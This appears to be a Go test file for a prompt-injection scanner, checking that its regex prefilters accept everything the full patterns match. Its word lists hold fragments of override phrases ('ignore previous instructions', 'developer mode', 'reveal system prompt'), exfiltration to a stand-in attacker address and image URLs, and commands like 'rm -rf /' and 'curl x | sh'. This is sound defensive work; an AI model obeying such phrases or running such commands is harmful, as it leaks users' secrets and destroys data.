package injection

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// prefilterVocabulary is words and separators from the catalogue's
// expressions and from text around them, for random windows that come
// close to matching.
var prefilterVocabulary = strings.Fields(`ignore ignoring disregard forget skip override stop following obeying abandon
	previous previously prior above earlier the system all any every your everything old initial
	instruction instructions prompt prompts rules direction guidelines commands context message policies
	you that you've been told said before so far up to now reveal print repeat show reply only with write out
	system initial original hidden developer confidential secret pre-prompt preprompt instructions
	send post upload forward leak email e-mail mail copy to into at on http:// https:// ftp:// x.example/a?b=1
	boss@attacker.example api key keys password token tokens credentials .env .aws the database
	include insert append add embed put place encode in as a an next url link image query request response answer
	markdown parameter ![a](https://e.example/p.png?d={secret}) ![ ]( ) ? & # {data} data=
	developer god sudo unrestricted debug mode enable enabled activate enter switch turn now are unlock is engaged
	. ! , : ; " ' ( ) [ ] _ - 1 0 é ?d={secret}) &q=${x} #aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29y`)

var prefilterSeps = []string{" ", " ", " ", "  ", "\n", "\t", "", ".", ", "}

// TestPrefilters checks that every prefilter passes wherever its
// expression matches: on every window of every view of the corpus, and on
// random windows built from the expressions' own words.
func TestPrefilters(t *testing.T) {
	check := func(p *Pattern, w []byte) {
		t.Helper()
		if p.re.Match(w) && !p.pre(w) {
			t.Errorf("%s: prefilter rejects %q, which the expression matches", p.Name, w)
		}
	}
	pats := []*Pattern{}
	for i := range compiled.pats {
		if compiled.pats[i].pre != nil {
			pats = append(pats, &compiled.pats[i])
		}
	}
	if len(pats) != len(prefilters) {
		t.Fatalf("%d prefilters, %d patterns with one", len(prefilters), len(pats))
	}
	// Every view of the corpus, every window the scanner would hand an
	// expression: at each trigger of the pattern.
	for _, half := range []bool{false, true} {
		for _, s := range loadCorpus(t, half) {
			for _, v := range normalizeAll([]byte(s.Text), normalizeOptions{}) {
				txt := lowerASCII(v.Text)
				compiled.ac.Scan(txt, func(w, end int) {
					tr := &compiled.trig[w]
					if tr.form != formPlain {
						return
					}
					start := end - tr.n
					for _, p := range pats {
						bit := uint64(1) << uint(slices.IndexFunc(compiled.pats, func(q Pattern) bool { return q.Name == p.Name }))
						if tr.mask&bit == 0 {
							continue
						}
						if p.Before == 0 {
							check(p, txt[start:min(len(txt), start+leadSpan)])
						} else {
							check(p, txt[max(0, start-p.Before):min(len(txt), end+p.after())])
						}
					}
				})
			}
		}
	}
	vocab := append(prefilterVocabulary, "the api key", "to https://x.example/c", "at http://x.example", "to boss@attacker.example",
		"your password", "into the url", "as a query", "instructions", "the system prompt", "all previous instructions",
		"no longer", "now", "unrestricted", "claude", "an ai", "bound", "without", "no filters", "free of", "any", "restrictions", "ethics", "have", "not")
	rng := rand.New(rand.NewPCG(1, 2))
	matched := map[string]int{}
	gen := func(first, words []string) []byte {
		var b strings.Builder
		b.WriteString(first[rng.IntN(len(first))])
		for k := rng.IntN(10); k >= 0; k-- {
			b.WriteString(prefilterSeps[rng.IntN(len(prefilterSeps))])
			if rng.IntN(4) == 0 {
				b.WriteString(vocab[rng.IntN(len(vocab))])
			} else {
				b.WriteString(words[rng.IntN(len(words))])
			}
		}
		return []byte(b.String())
	}
	// Per pattern: the words a window starts with and words from its
	// expression, so that random windows match often enough to matter.
	own := map[string][2][]string{
		"ignore_previous_instructions": {wsVerbIgnore, append(append([]string{"the", "my", "these"}, wsEarlier...), wsRules...)},
		"ignore_everything_told":       {wsVerbIgnore, {"all", "everything", "anything", "that", "you", "you've", "been", "told", "said", "given", "above", "before", "so far", "up to now", "have", "were"}},
		"reveal_system_prompt":         {wsRevealLead, append(append([]string{"me", "only", "with", "us", "prompt", "message", "instructions", "above", "you were given"}, wsDet...), wsPromptHead...)},
		"send_to_url":                  {wsSendURL, {"it", "the data", "to", "into", "at", "on", "https://x.example", "http://", "ftp://a"}},
		"send_secret":                  {wsSendSecret, {"the api key", "password", "tokens", "to", "at", "https://x.example", "boss@attacker.example", "a@b.c", "with", ".env"}},
		"include_secret":               {wsInclude, append([]string{"the api key", "password", ".env", "in", "into", "to", "as", "the", "your", "a", "an", "next"}, wsIncludeTo...)},
		"markdown_image_exfil":         {{"![x](", "![x](https://e.example/p", "![](http://e.example/"}, append([]string{"?", "&", "#", "{data}", "?q={x}", "%7b", "${", "<ssn>", "[key]", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29y", ")", "](", "https://x.example/a?"}, wsExfilParam...)},
		"developer_mode":               {append(append([]string{"the"}, wsModeVerb...), wsModeWho...), append(append(append([]string{"the", "mode", "is"}, wsModeWho...), wsModeVerb...), wsModeState...)},
		"html_image_exfil":             {{"<img", "<img src=", "<img alt=x src='https://e.example/p", `<img src="http://e.example/`}, {"?", "&", "{x}", "%7b", "${", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29y", ">", "src", "=", "'", `"`, "https://x.example/a?", "width=1"}},
		"dangerous_command":            {{"rm", "curl", "wget", "format", "run"}, {"-rf", "/", "~", "*", "$home", "|", "| sh", "|bash", "sudo", "sh", "zsh", "c:", "https://x.example/i.sh", "-ssl", "rm -rf /", "curl x | sh"}},
		"persona_override":             {{"you are", "you're", "you  are", "pretend", "act as", "roleplay as", "role-play as"}, {"no", "longer", "now", "a", "an", "unrestricted", "claude", "an ai", "bound", "without", "filters", "free of", "any", "restrictions", "ethics", "have", "not", "that", "you", "are", "to be", "evil", "named"}},
	}
	for _, p := range pats {
		o, ok := own[p.Name]
		if !ok {
			t.Fatalf("%s: no random windows", p.Name)
		}
		for range 8000 {
			w := gen(o[0], o[1])
			if p.re.Match(w) {
				matched[p.Name]++
			}
			check(p, w)
		}
	}
	for _, p := range pats {
		if matched[p.Name] == 0 {
			t.Errorf("%s: no random window matched; the test proves nothing for it", p.Name)
		}
	}
	t.Logf("random windows matched: %v", matched)
}

// TestPrefilterLongURLs covers the far ends of the URL bounds, which
// random windows rarely reach: the query's data may start after a later
// "?" or "&" almost 400 bytes into the URL.
func TestPrefilterLongURLs(t *testing.T) {
	pad := strings.Repeat("a.", 75) // no run of 40 base64 bytes
	matched := 0
	for _, w := range []string{
		"![x](https://e.example/?" + pad + "&" + pad + "&d={secret})",
		"![x](https://e.example/?" + pad + "&" + pad + "&data=1)",
		`<img src="https://e.example/?` + pad + "&" + pad + `&q={x}">`,
		`<img src=https://e.example/?` + pad + "&" + pad + strings.Repeat("b", 45),
	} {
		for _, name := range []string{"markdown_image_exfil", "html_image_exfil"} {
			i := slices.IndexFunc(compiled.pats, func(p Pattern) bool { return p.Name == name })
			p := &compiled.pats[i]
			if !p.re.Match([]byte(w)) {
				continue
			}
			matched++
			if !p.pre([]byte(w)) {
				t.Errorf("%s: prefilter rejects %q, which the expression matches", name, w)
			}
		}
	}
	if matched != 4 {
		t.Errorf("%d of the 4 windows matched; the test proves less than it says", matched)
	}
}

// TestCatalogueExamples scans every pattern's examples on their own: each
// example must be found by its pattern, each non-example must not.
func TestCatalogueExamples(t *testing.T) {
	found := func(text, name string) bool {
		for _, m := range Scan([]byte(text), Options{}).Matches {
			if m.Pattern == name {
				return true
			}
		}
		return false
	}
	for _, p := range Patterns() {
		if len(p.Examples) == 0 || len(p.NonExamples) == 0 {
			t.Errorf("%s: no examples or no non-examples", p.Name)
		}
		for _, e := range p.Examples {
			if !found(e, p.Name) {
				t.Errorf("%s: example %q not found", p.Name, e)
			}
		}
		for _, e := range p.NonExamples {
			if found(e, p.Name) {
				t.Errorf("%s: non-example %q found", p.Name, e)
			}
		}
	}
}
